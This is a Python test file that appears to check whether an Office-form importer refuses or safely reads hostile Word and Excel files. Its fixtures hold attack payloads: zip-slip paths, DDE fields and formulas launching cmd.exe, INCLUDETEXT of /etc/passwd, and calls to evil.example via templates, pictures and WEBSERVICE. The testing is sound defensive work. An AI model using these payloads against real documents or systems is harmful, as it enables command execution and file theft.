"""Word and Excel files that try something, beside those in test_untrusted.py; and any bytes at all."""

from __future__ import annotations

import io
import os
import zipfile
from functools import cache
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from casebook.diagnostics import CATALOGUE
from casebook.load import load
from casebook.office.importing import import_form, report
from casebook.office.package import Refused
from casebook.office.template_docx import template_docx
from casebook.office.template_xlsx import template_xlsx
from casebook.validate import validate_case
from office.forms import filled, reference
from office.packages import RELATIONS, excel, package, paragraph, row, table, word

WORDS = reference()
SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"
TITLE = table(("标题", SCRIPT))
FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def with_member(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, content)
    return out.getvalue()


def encrypted(data: bytes) -> bytes:
    """Every member marked as encrypted."""
    marked = bytearray(data)
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = marked.find(signature)
        while start >= 0:
            marked[start + at] |= 1
            start = marked.find(signature, start + 4)
    return bytes(marked)


def sheet_with(cell: str) -> bytes:
    return excel(row("标题", cell))


INPUTS: dict[str, tuple[str, bytes]] = {
    "script": ("a script for a title", word(TITLE)),
    "slip": ("a part whose name climbs out", with_member(word(TITLE), "../../../hostile", b"x")),
    "slip-absolute": ("a part with a path of the machine", with_member(word(TITLE), "/tmp/hostile", b"x")),  # noqa: S108
    "slip-windows": ("a part with a path of Windows", with_member(word(TITLE), "..\\..\\hostile", b"x")),
    "slip-link": ("a part that is a relation out of the file", word(TITLE, {"rId5": ("image", "../../../../etc/passwd")})),
    "nameless": ("a part without a name", with_member(word(TITLE), "zzzz", b"x").replace(b"zzzz", b"\0zzz")),
    "encrypted": ("members that are encrypted", encrypted(word(TITLE))),
    "archive-in-archive": ("an archive in the archive", with_member(word(TITLE), "word/media/a.png", word(TITLE))),
    "dde": ("an exchange of data with a program", word(TITLE + FIELD.format('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))),
    "include": ("a file of the machine as a field", word(TITLE + FIELD.format('INCLUDETEXT "file:///etc/passwd"'))),
    "picture-of-elsewhere": ("a picture of another host as a field", word(TITLE + FIELD.format('INCLUDEPICTURE "https://evil.example/x.png"'))),
    "object": ("an object of another host", word(TITLE, {"rId5": ("oleObject", "file://evil.example/x.doc")})),
    "chunk": ("a page of HTML as a part", word(TITLE + '<w:altChunk r:id="rId5"/>', {"rId5": ("aFChunk", "x.html")}, word__x_html=b"<script>alert(1)</script>")),
    "template": ("a template of another host", word(TITLE, {"rId5": ("attachedTemplate", "https://evil.example/x.dotm")})),
    "link": ("a link that is a script", word(TITLE + '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>', {"rId5": ("hyperlink", "javascript://x/%0Aalert(1)")})),
    "relation-of-itself": ("relations that go round", word(TITLE, {"rId5": ("officeDocument", "document.xml")})),
    "formula": ("a formula that runs a program", sheet_with("<c t=\"str\"><f>cmd|'/C calc'!A0</f><v>=cmd|'/C calc'!A0</v></c>")),
    "formula-text": ("a text that a spreadsheet runs", sheet_with("=HYPERLINK(&quot;https://evil.example/&quot;&amp;A1)")),
    "web-service": ("a formula that asks another host", sheet_with('<c t="str"><f>WEBSERVICE("https://evil.example/")</f><v>x</v></c>')),
    "shared-far": ("a text far beyond the list", sheet_with('<c t="s"><v>99999999999</v></c>')),
    "shared-negative": ("a text before the list", sheet_with('<c t="s"><v>-1</v></c>')),
    "cell-nowhere": ("a cell that has no place", sheet_with('<c r="ZZZZZZZZ99999999999" t="inlineStr"><is><t>x</t></is></c>')),
    "external-book": ("a book of another host", excel(row("标题", SCRIPT), "", {"rId5": ("externalLinkPath", "https://evil.example/x.xlsx")})),
    "namespace": ("a thousand names for one namespace", package("docx", {"word/document.xml": "<a " + " ".join(f'xmlns:n{n}="x"' for n in range(1000)) + "/>"})),
    "attribute": ("an attribute of ten million letters", package("docx", {"word/document.xml": f'<a b="{os.urandom(4).hex() * 1_250_000}"/>'})),
    "kind-of-relation": ("a relation of a kind that nobody has", word(TITLE, {"rId5": (f"{RELATIONS}/../../evil", "x")})),
}  # fmt: skip
"""What each tries, and the file."""


def told(data: bytes, language: str = "zh") -> str:
    """The case file that comes of it, or why none does: then one of the refusals that there are words for."""
    try:
        imported = import_form("form", data, WORDS, language)
    except Refused as refused:
        return f"refused: {refused.key}"
    report("form", imported, language)
    for name in imported.pictures:
        assert Path(name).name == name and name.endswith((".png", ".jpg", ".webp"))
    document, found = load("form.yml", imported.text.encode())
    if document is not None:
        found += validate_case(document, WORDS)[1]
    assert {one.code for one in found} <= CATALOGUE.keys()
    return imported.text


@pytest.mark.parametrize("name", INPUTS)
def test_it_is_read_as_text_or_refused(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    tries, data = INPUTS[name]
    text = told(data)
    assert tries and text
    assert "root:x:0:0" not in text and "canary" not in text
    assert list(tmp_path.iterdir()) == [] and not Path("/tmp/hostile").exists()  # noqa: S108
    if name == "encrypted":
        assert text == "refused: old-format"


@cache
def template(kind: str) -> bytes:
    return {"docx": template_docx, "xlsx": template_xlsx}[kind]("zh", WORDS, filled("zh", WORDS))


CHANGES = st.lists(
    st.tuples(st.floats(0, 1, exclude_max=True), st.binary(max_size=12), st.integers(0, 40)), min_size=1, max_size=6
)


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(["docx", "xlsx"]), CHANGES)
def test_a_file_with_other_bytes_is_read_or_refused(kind: str, changes: list[tuple[float, bytes, int]]) -> None:
    data = bytearray(template(kind))
    for place, content, length in changes:
        at = int(place * len(data))
        data[at : at + length] = content
    told(bytes(data))


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(["docx", "xlsx"]), st.data())
def test_a_part_with_other_bytes_is_read_or_refused(kind: str, data: st.DataObject) -> None:
    with zipfile.ZipFile(io.BytesIO(template(kind))) as archive:
        parts = {one.filename: archive.read(one) for one in archive.infolist()}
    name = data.draw(st.sampled_from(sorted(parts)))
    content = bytearray(parts[name])
    for place, new, length in data.draw(CHANGES):
        at = int(place * len(content))
        content[at : at + length] = new
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for one, whole in (parts | {name: bytes(content)}).items():
            archive.writestr(one, whole)
    told(out.getvalue())


@given(st.text(max_size=60))
def test_any_text_in_a_cell_stays_a_text(text: str) -> None:
    escaped = "".join(f"&#{ord(one)};" if one.isprintable() else " " for one in text)
    told(word(table(("标题", escaped)) + paragraph(escaped)))
